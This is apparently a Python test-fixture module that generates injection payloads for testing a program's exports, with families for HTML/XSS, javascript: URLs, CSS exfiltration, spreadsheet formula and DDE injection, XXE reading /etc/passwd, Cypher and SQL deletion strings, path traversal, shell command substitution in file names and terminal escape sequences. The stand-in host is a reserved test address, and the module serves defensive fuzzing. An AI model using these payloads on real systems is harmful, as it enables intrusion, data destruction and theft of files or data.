"""Texts that have harmed readers of other programs' exports, for every place of an article that a name or a text can stand.

Each would do something in one format: run a script, become a formula, end a string, leave a folder, break a file. What a
script of ours would do is CALL, which the page's test listens for; hosts are of TEST-NET, which nobody has.
"""
import itertools

CALL = "alert(1)"
HOST = "http://192.0.2.1/"


def event_handlers():
    tags = ("img src=x", "svg", "body", "video src=x", "audio src=x", "iframe src=x", "input autofocus", "details open",
            "select autofocus", "textarea autofocus", "marquee", "object data=x", "math", "a href=# tabindex=0",
            "style", "link rel=stylesheet href=x", "script src=x", "button autofocus", "embed src=x", "table background=x")
    events = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationend", "onpageshow")
    return [f"<{tag} {event}={CALL}>" for tag, event in itertools.product(tags, events)]


def html_breakouts():
    ends = ('"', "'", "`", "-->", "--!>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</xmp>", "</template>",
            "]]>", "?>", "*/", "%>", "}}", "</svg>", "</select>", "<!--", "<![CDATA[")
    tags = (f"<script>{CALL}</script>", f"<img src=x onerror={CALL}>", f"<svg/onload={CALL}>",
            f"<iframe srcdoc='<script>{CALL}</script>'>")
    return [end + tag for end, tag in itertools.product(ends, tags)]


def scripts():
    return [
        f"<script>{CALL}</script>", f"<ScRiPt>{CALL}</sCrIpT>", f"<script >{CALL}</script >", f"<script/x>{CALL}</script\t>",
        f"<script src={HOST}x.js></script>", f"<script type=module>{CALL}</script>", f"<scr<script>ipt>{CALL}</scr</script>ipt>",
        f"<<script>{CALL}//<</script>", f"<script\n>{CALL}</script>", f"<!--><script>{CALL}</script>-->",
        f"<!--<script>{CALL}", f"</script", f"</script>", f"</SCRIPT >", "<!--", "-->", "<!-- <script>", "<script", "<!DOCTYPE html>",
        f"';{CALL};//", f'";{CALL};//', f"\\';{CALL};//", f'\\";{CALL};//', f"`;{CALL};//", f"${{{CALL}}}", f"{{{{{CALL}}}}}",
        f"<%={CALL}%>", f"#{{{CALL}}}", f"[[{CALL}]]", f"\u2028{CALL}\u2028", f"\u2029{CALL}//", f"\\u003cscript\\u003e{CALL}",
        f"\\x3cscript\\x3e{CALL}", f"&lt;script&gt;{CALL}&lt;/script&gt;", f"&#60;script&#62;{CALL}", f"&#x3c;script&#x3e;{CALL}",
        f"&amp;lt;script&amp;gt;{CALL}", f"%3Cscript%3E{CALL}%3C/script%3E", f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
        f"＜script＞{CALL}＜/script＞", f"<\u200bscript>{CALL}</script>", f"<script\u00a0>{CALL}</script>",
        f"<form><button formaction=javascript:{CALL}>x", f"<math><mi xlink:href=javascript:{CALL}>x",
        f"<svg><script>{CALL}</script></svg>", f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}/>#x'>", f"<meta http-equiv=refresh content='0;url={HOST}'>",
        f"<base href={HOST}>", f"<img src={HOST}x.png>", f"<link rel=preload href={HOST}x as=image>", f"<iframe src={HOST}>",
        f"<object data={HOST}x>", f"<a href={HOST} ping={HOST}>x</a>", f"<video poster={HOST}x>", f"<input type=image src={HOST}x>",
        "<form id=nodes>", "<a id=__proto__>", "<img name=getElementById>", "<plaintext>", "<frameset>", "<noscript><p title=\"</noscript>",
        f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>", f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
        "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "__defineGetter__", "then", "length", "NaN",
        "undefined", "null", "true", "false", "Infinity", "-0", "1e999", "0x10", "[object Object]",
    ]


def urls():
    schemes = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:", "javascript&colon;",
               "javascript:%0a", "javascript://%0a", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=",
               "data:image/svg+xml,<svg onload=", "feed:javascript:", "view-source:", "blob:", "file:///etc/passwd#", "//192.0.2.1/")
    forms = ("{}", '<a href="{}">x</a>', "[x]({})", "![x]({})")
    return [form.format(scheme + CALL) for scheme, form in itertools.product(schemes, forms)]


def styles():
    return [
        f"<style>@import '{HOST}x.css';</style>", f"<style>*{{background:url({HOST})}}</style>", f"</style><script>{CALL}</script>",
        f"<p style=\"background:url({HOST})\">", f"<p style=\"width:expression({CALL})\">", f"<p style='behavior:url(#x)'>",
        f"<p style=\"-moz-binding:url({HOST}#x)\">", f"x;background:url({HOST})", f"}}*{{background:url({HOST})}}", "\\3c script\\3e",
        f"\\22\\29;background:url({HOST})", "/*", "*/", f"*/}}body{{background:url({HOST})}}/*", f"url(javascript:{CALL})",
        f"<style>input[value^=a]{{background:url({HOST}a)}}</style>", "<p style='position:fixed;inset:0;z-index:9999'>", "red;}",
        f"<font-face src={HOST}>", f"@charset \"utf-7\";@import '{HOST}'",
    ]


def formulas():
    leads = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "|", "%", "＝", "＋", "－", "＠", " =", "'=", '"=', ";=", ",=", "\u00a0=", "\u200b=",
             "\ufeff=", "\u3000=")
    bodies = ("1+1", "cmd|' /C calc'!A0", f'HYPERLINK("{HOST}?"&A1,"한빛")', f'WEBSERVICE("{HOST}")', "SUM(1;1)",
              f'IMPORTXML(CONCAT("{HOST}",A1),"//a")', 'DDE("cmd";"/C calc";"x")', "10+20+cmd|' /C calc'!A0",
              "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''")
    return [lead + body for lead, body in itertools.product(leads, bodies)]


def tables():
    return [
        ",", ",,,", ";", "\t", "\t\t", '"', '""', '"""', '","', '",\n"', "\n", "\r", "\r\n", "\n\n\n", "a\nb", "a\r\nb", "a\rb", "'", "''",
        "a,b", 'a"b', '"a"', ' "a" ', " a", "a ", "  ", "\\", "\\\\", "\\,", '\\"', 'a\\', '"a\\', '\\n', "\\N", "NULL", "#N/A", "#REF!",
        "#", "# comment", "#DIV/0!", "1-2", "3/4", "1E5", "0005930", "0037T0", "TRUE", "2024-01-02", "12:30", "1,234", "₩1,000", "50%",
        "sep=,", "sep=;", "ID", "SYLK;", "PK\x03\x04", "_x000D_", "_x0041_", "&L&\"Arial\"x", "$A$1", "R1C1", "Sheet1!A1",
        "{=1+1}", "[1]x!A1", "-한빛", "+나래", "@두루", "=한빛", "--", "---", "|a|b|", "<table><tr><td>=1+1</td></tr></table>",
    ]


def xml():
    return [
        "&", "&&", "&amp;", "&lt;", "&#0;", "&#x0;", "&#8;", "&#xD800;", "&#xFFFE;", "&#1114112;", "&x;", "&x", "&#;", "<", ">", "<>", "</",
        "</node>", "</graph>", "</graphml>", "<node id='x'/>", "</data></node><node id=\"x\">", "<edge source='a' target='b'/>",
        "]]>", "]]]]>", "]]&gt;", "<![CDATA[", "<![CDATA[x]]>", "<![CDATA[]]]]><![CDATA[>]]>", "<!DOCTYPE x>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", f"<!DOCTYPE x SYSTEM '{HOST}x.dtd'>",
        "<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;&a;'>]>&b;", "<!ENTITY % x 'y'>%x;", "<!ELEMENT x ANY>", "<!-- x -->", "<!--", "-->",
        "--", "<!-- -- -->", "<?xml version='1.1'?>", "<?xml version='1.0' encoding='utf-7'?>", "<?xml-stylesheet href='x.xsl'?>", "<?x y?>", "?>",
        "<?php echo 1 ?>", f"<xi:include href='{HOST}' xmlns:xi='http://www.w3.org/2001/XInclude'/>", "xmlns='x'", "xml:space='preserve'",
        "' x='", '" x="', "\" onload=\"", "a\tb", "a\nb", "\u0085", "\u2028", "xml", "x:y", "{http://x}y", "<x xmlns:x='y'>",
    ]


def dot():
    return [
        '"', '\\"', '\\\\"', '"]', '"];', '"]; x -> y; z [label="', '\\', 'a\\', "a\\\\", "\\n", "\\l", "\\r", "\\N", "\\G", "\\E", "\\T", "\\H", "\\L",
        "<b>x</b>", "<<b>x</b>>", "<<table><tr><td>x</td></tr></table>>", f"<<img src='{HOST}'/>>", "x:n", "x:port:ne", "a->b", "a--b", "a -> b;",
        "{a|b}", "<p> x|<q> y", "{", "}", "};", "} digraph y {", "[", "]", "[label=x]", "[URL=\"javascript:alert(1)\"]", "//x", "/* x */", "# x",
        "graph", "digraph", "node", "edge", "subgraph", "strict", "cluster_x", "subgraph cluster_x {", "x;y", "x,y", "a=b", "+", '" + "', "-.5",
        "&#34;", "&quot;", "&amp;quot;", "a\\\nb", "\\x22", "\\u0022", "%3", "shape=record", "image=/etc/passwd",
    ]


def cypher():
    return [
        "'", "\\'", "\\\\'", "'}) DETACH DELETE n //", "'}); MATCH (n) DETACH DELETE n; //", "\"}); MATCH (n) DETACH DELETE n; //",
        "`", "``", "\\`", "x`) DETACH DELETE n //", "x`}) RETURN 1 //", "\\u0027", "\\u0027}) DETACH DELETE n //", "\\u0060", "\\u005c\\u0027",
        "\\uD83D\\uDE00", "\\u", "\\uZZZZ", "\\U0001F600", "\\b\\f\\n\\r\\t", "\\x", "$x", "$`x`", "{x}", "{x: 1}", ":x", ":`x`", "(n)", "-[r]->", "*1..",
        "/* x */", "// x", "--", ";", "; CALL dbms.shutdown();", f"' LOAD CSV FROM '{HOST}' AS x //", "CALL { MATCH (n) DELETE n } IN TRANSACTIONS",
        "MERGE", "RETURN 1", "UNION", ":param x => 1", ":source x", ":exit", "a;b", ";a", ":ID", ":LABEL", ":START_ID", "x:string[]", "a|b", "Ａ`", "ʼ", "＇",
    ]


def turtle():
    return [
        '"""', "'''", '\\"""', 'x""" . <a> <b> "y', "x\" . <a> <b> <c> . \"", "<", ">", "<a>", "> <b> <c> .", "a> .", "<a b>", "<a\\u0020b>", "\\u0022", "\\U00000022",
        "\\u003E", "%20", "%", "%zz", "a%b", "a b", "a#b", "a?b", "a/b", "a:b", "_:x", "x:y", "a\\~b", "\\-", "@prefix x: <y> .", "@base <x> .",
        "PREFIX x: <y>", "BASE <x>", "@ko", "\"x\"@ko", "^^<x>", "\"1\"^^xsd:integer", "[]", "[ a x ]", "( 1 2 )", ".", ";", ",", "a", "true", "1.", "# x",
        "{ <a> <b> <c> }", "{|x|}", "<<a b c>>", "^", "`", "|", "\\", "a\\", "a\"b", "http://x y/<>", "urn:x:\u00a0", "\u200d:x",
    ]


def sql():
    return [
        "'; DROP TABLE nodes; --", "'); DELETE FROM edges; --", "' OR '1'='1", "\" OR \"\"=\"", "1; ATTACH 'x' AS y", "' UNION SELECT 1 --", "\\'; --",
        "/*", "*/", "--", ";", "%", "_", "?", "?1", ":x", "@x", "$x", "x'00'", "[x]", "`x`", "\"x\"", "NULL", "sqlite_master", "PRAGMA x", ".quit", ".shell ls",
        "'||(SELECT 1)||'", "char(0)", "\x1a", "load_extension('x')", "\u02bc; DROP TABLE nodes; --",
    ]


def json_texts():
    return [
        '{"a":1}', "[1]", '"', '\\"', '","id":"x', '"}]}', '"}],"edges":[{"source":"x', "\\", "\\\\", "\\u0000", "\\ud800", "\\udc00\\ud800", "\\/", "\\b", "\\", "/", "</",
        "\u2028", "\u2029", "\x7f", "$ref", "@context", '{"$where":"x"}', "//", "/**/", "NaN", "[[[[[[[[[[", "{" * 100, "]" * 100,
    ]


def file_names():
    return [
        "..", ".", "../x", "../../x", "../../../../../../etc/passwd", "..\\x", "..\\..\\x", "/", "/etc/passwd", "/tmp/x", "//x", "\\\\x\\y", "C:\\x", "C:x", "x/y", "x\\y",
        "x\0y", "x\0.csv", "x\ny", "x\ry", "x\ty", "~", "~/x", "~root", "$HOME", "${HOME}", "`id`", "$(id)", "%TEMP%", "!x", "x;id", "x|id", "x&id", "x>y", "x<y", "-", "--",
        "-rf", "--output=/tmp/x", "@x", "*", "?", "[a-z]", "{a,b}", "x ", "x.", ".x", "CON", "con", "PRN", "AUX", "NUL", "NUL.csv", "COM1", "LPT1", "CON.", "x:y",
        "x::$DATA", "file:///etc/passwd", "%2e%2e%2fx", "..%2fx", "\uff0e\uff0e\uff0fx", "..\u2215x", "x" * 300, "한" * 100, "\u1112\u1161\u11ab", "X", "nodes.csv",
        "edges.csv", ".git", ".bashrc", "desktop.ini",
    ]


def unicode():
    return [
        "\ufeff", "\ufeff한빛", "한\ufeff빛", "\u200b", "한\u200b빛", "\u200c", "\u200d", "\u2060", "\u00ad", "\u180e", "\u202e나래", "\u202d나래\u202c", "\u2066a\u2069",
        "\u200f나래\u200e", "\u061c", "한빛\u202egnp.exe", "\u2028", "\u2029", "a\u2028b", "\u0085", "\u00a0", "\u3000", "\u1680", "\u2003", "שלום", "مرحبا", "שלום 한빛 abc",
        "👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "🇰🇷", "🚀", "🚀" * 50, "1️⃣", "\U0001f9d1\u200d\U0001f680", "e\u0301", "a" + "\u0301" * 200, "Z̸̢͎̗̞̏̀̿a̷̛͔l̴̨̈g̶͙̈́o̵͓͝", "\u0301", "\u1112\u1161\u11ab\u1107\u1175\u11be",
        "\u1112" * 30, "ㅎㅏㄴ", "\uffa1\uffc2", "ﬁ", "①", "㎚", "㈜한빛", "Ａ", "ß", "ı", "İ", "ẞ", "ǅ", "\ufffd", "\ufffe", "\uffff", "\U0001fffe", "\U0010ffff", "\ufdd0", "\ue000",
        "\U000f0000", "\U000e0001", "\U000e0041\U000e007f", "\U0001d54f", "\U00020000", "\U0002a6d6", "뷁쨰", "\u1160\u115f", "\u3164", "\u2800", "\ufffc", "\ufff9x\ufffay\ufffb",
        "\U0001F469" + "\u200d\U0001F469" * 40, "a\u20dd", "\u0e33" * 40, "한" + "\u200b" * 500, "﷽" * 20, "𒐫" * 20,
    ]


def controls():
    codes = [*range(0x20), *range(0x7F, 0xA0)]
    return [f"한{chr(code)}빛" for code in codes] + [chr(code) + "나래" for code in codes]


def terminals():
    return [
        "\x1b[31m빨강", "\x1b[2J", "\x1b[H\x1b[2J", "\x1b]0;x\x07", "\x1b]8;;http://192.0.2.1/\x07x\x1b]8;;\x07", "\x1b]52;c;eA==\x07", "\x1bP+q\x1b\\", "\x1b[6n", "\x1b[c", "\x1bc",
        "\x1b(0", "\x1b[?1049h", "\x1b[?25l", "\x1b[8m", "\x1b[1A\x1b[2K", "\x1b[200~", "\x1b_x\x1b\\", "\x1b^x\x1b\\", "\x9b31m", "\u009b2J", "\u009d0;x\u009c", "\u0090x\u009c", "\x07", "\x08\x08\x08",
        "a\rb", "a\x0bb", "a\x0cb", "\x0e", "\x0f", "\x05", "\x7f\x7f", "\x1b", "\x1b[", "\x1b[38;5;1", "x\x1b",
    ]


def long_names():
    return ["가" * 300, "a" * 300, "가나다 " * 100, "<" * 300, "=" * 300, '"' * 300, "가" * 10_000, "a" * 10_000, "a b " * 2_500, '"' * 10_000, "\\" * 10_000, "&" * 10_000,
            "\U0001f680" * 5_000, "<b>" * 3_000]


FAMILIES = (event_handlers, html_breakouts, scripts, urls, styles, formulas, tables, xml, dot, cypher, turtle, sql, json_texts, file_names,
            unicode, controls, terminals, long_names)


def all_payloads():
    """Each once, in the order of FAMILIES."""
    return list(dict.fromkeys(payload for family in FAMILIES for payload in family()))
